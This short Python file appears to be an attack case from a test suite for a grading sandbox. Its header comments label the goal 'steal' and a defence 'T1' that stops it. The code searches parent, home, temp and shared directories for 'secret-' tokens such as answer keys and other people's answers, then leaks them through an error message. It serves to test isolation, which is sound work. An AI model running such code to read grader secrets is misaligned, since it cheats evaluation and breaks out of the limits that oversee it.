# tries: to read the grader's disk: checks, solutions, the gradebook, the key, others' answers
# fails: none of it is mounted (or, without namespaces, none of it may be opened)
# goal: steal
# stopped from: T1
# undefended: leak: everything the grader may read
# touches: one function
import os
import re
import time

PLACES = ("..", "../..", "~", "/tmp", "/var/tmp", "/dev/shm", "/srv", "/home")


def attack(*arguments, **keywords):
    found, until = set(), time.monotonic() + 0.8
    for place in PLACES:
        for path in files_below(os.path.realpath(os.path.expanduser(place)), 6):
            if time.monotonic() > until:
                break
            try:
                with open(path, "rb") as file:
                    found |= set(re.findall(rb"secret-[0-9a-f]{16}", file.read(2**16)))
            except OSError:
                continue
    raise RuntimeError(f"found {sorted(found)}")


def files_below(folder, depth):
    """Newest first: what is being graded now was written just now."""
    try:
        entries = sorted(os.scandir(folder), key=lambda entry: -entry.stat().st_mtime)
    except OSError:
        return
    for entry in entries[:100]:
        if entry.is_dir(follow_symlinks=False) and depth:
            yield from files_below(entry.path, depth - 1)
        elif entry.is_file(follow_symlinks=False):
            yield entry.path
